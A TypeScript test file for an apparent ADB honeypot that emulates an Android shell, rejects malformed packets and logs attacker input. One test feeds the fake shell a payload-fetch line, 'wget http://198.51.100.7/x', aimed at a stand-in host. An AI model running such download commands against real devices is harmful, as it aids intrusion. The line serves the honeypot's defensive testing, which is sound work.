import assert from 'node:assert/strict';
import { connect, type Server } from 'node:net';
import { describe, it, type TestContext } from 'node:test';
import {
  A_CLSE,
  A_CNXN,
  A_OPEN,
  A_VERSION,
  A_WRTE,
  encodeAdb,
  encodeShellPacket,
  readAdb,
  readShellPacket,
  SHELL_CLOSE_STDIN,
  SHELL_EXIT,
  SHELL_STDERR,
  SHELL_STDIN,
  SHELL_STDOUT,
} from '../modules/sensor/adb-protocol.ts';
import { type AdbListenerConfig, parseSensorConfig } from '../modules/sensor/sensor-config.ts';
import type { Captured } from '../modules/sensor/sensor-records.ts';
import { AdbHoneypot } from './adb-listener.ts';

async function listener(t: TestContext) {
  const cfg = parseSensorConfig({
    identity: { proxy_ip: '198.51.100.1' },
    domains: ['unit.example'],
    listeners: [{ protocol: 'adb', bind: '127.0.0.1', port: 0 }],
  }).listeners[0] as AdbListenerConfig;
  const records: Captured[] = [];
  const hp = new AdbHoneypot(cfg, {
    sink: {
      capture: () => assert.fail('the ADB listener stages its records (append), answering once they are written'),
      append: async (feed, json, kept) => {
        records.push({ feed, record: JSON.parse(json.toString()) as Captured['record'] });
        queueMicrotask(() => kept(true));
        return true;
      },
    },
    now: Date.now,
  });
  const server: Server = hp.createServer();
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  t.after(() => {
    hp.destroyAll();
    server.close();
  });
  return { hp, records, port: (server.address() as { port: number }).port };
}

/** Writes bytes and collects what comes back until the server closes or `ms` pass. */
const exchange = (port: number, bytes: Buffer, ms = 500) =>
  new Promise<{ data: Buffer; closed: boolean }>((resolve) => {
    const chunks: Buffer[] = [];
    const s = connect(port, '127.0.0.1', () => s.write(bytes));
    const timer = setTimeout(() => {
      s.destroy();
      resolve({ data: Buffer.concat(chunks), closed: false });
    }, ms);
    s.on('data', (c: Buffer) => chunks.push(c));
    s.on('close', () => {
      clearTimeout(timer);
      resolve({ data: Buffer.concat(chunks), closed: true });
    });
    s.on('error', () => {});
  });

describe('the ADB honeypot listener', () => {
  it('should close a connection that claims a 4 GiB message or sends a wrong magic, and keep serving others', async (t) => {
    const { hp, port, records } = await listener(t);
    const huge = encodeAdb(A_CNXN, A_VERSION, 4096, Buffer.from('host::\0'));
    huge.writeUInt32LE(0xffffffff, 12);
    assert.deepEqual(await exchange(port, huge), { data: Buffer.alloc(0), closed: true });
    const magic = encodeAdb(A_CNXN, A_VERSION, 4096, Buffer.from('host::\0'));
    magic.writeUInt32LE(0x12345678, 20);
    assert.equal((await exchange(port, magic)).closed, true);
    assert.equal(hp.stats.malformed, 2);
    // A wrong checksum is not checked (clients of protocol version 0x01000001 send none): answered.
    const sum = encodeAdb(A_CNXN, A_VERSION, 4096, Buffer.from('host::\0'));
    sum.writeUInt32LE(999, 16);
    const r = readAdb((await exchange(port, sum)).data);
    assert.equal(r.kind, 'message');
    assert.equal(r.kind === 'message' && r.message.command, A_CNXN);
    assert.equal(records.length, 0);
  });

  it('should give the old shell: service a pty (echo, prompt, \\r\\n) and record each line as typed', async (t) => {
    const { port, records } = await listener(t);
    const bytes = Buffer.concat([
      encodeAdb(A_CNXN, A_VERSION, 4096, Buffer.from('host::\0')),
      encodeAdb(A_OPEN, 5, 0, Buffer.from('shell:\0')),
      encodeAdb(A_WRTE, 5, 1, Buffer.from('ech\x7fho x\r')),
      encodeAdb(A_WRTE, 5, 1, Buffer.from('exit\r')),
    ]);
    const { data } = await exchange(port, bytes);
    const out = messages(data)
      .filter((m) => m.command === A_WRTE)
      .map((m) => m.data.toString('latin1'))
      .join('');
    assert.equal(out, 'starlte:/ $ ech\b \bho x\r\nx\r\nstarlte:/ $ exit\r\n');
    assert.equal(messages(data).at(-1)?.command, A_CLSE);
    assert.deepEqual(
      records.map((r) => Buffer.from((r.record as { command: string }).command, 'base64').toString()),
      ['echo x', 'exit'],
    );
  });

  it('should run a piped script over the shell protocol: stdout and stderr apart, a last line without \\n, the last status', async (t) => {
    const { port, records } = await listener(t);
    const bytes = Buffer.concat([
      encodeAdb(A_CNXN, A_VERSION, 4096, Buffer.from('host::\0')),
      encodeAdb(A_OPEN, 5, 0, Buffer.from('shell,v2,raw:\0')),
      encodeAdb(A_WRTE, 5, 1, encodeShellPacket(SHELL_STDIN, Buffer.from('echo a\nwget http://198.51.100.7/x'))),
      encodeAdb(A_WRTE, 5, 1, encodeShellPacket(SHELL_CLOSE_STDIN, Buffer.alloc(0))),
    ]);
    const { data } = await exchange(port, bytes);
    const packets = messages(data)
      .filter((m) => m.command === A_WRTE)
      .map((m) => readShellPacket(m.data))
      .map((p) => (p.kind === 'packet' ? [p.id, p.data.toString('latin1')] : ['bad']));
    assert.deepEqual(packets, [
      [SHELL_STDOUT, 'a\n'],
      [SHELL_STDERR, '/system/bin/sh: wget: not found\n'],
      [SHELL_EXIT, '\x7f'],
    ]);
    assert.equal(records.length, 2);
  });
});

/** Every ADB message in `data`, in order. */
function messages(data: Buffer) {
  const out = [];
  for (let rest = data; ; ) {
    const r = readAdb(rest);
    if (r.kind !== 'message') return out;
    out.push(r.message);
    rest = rest.subarray(r.used);
  }
}
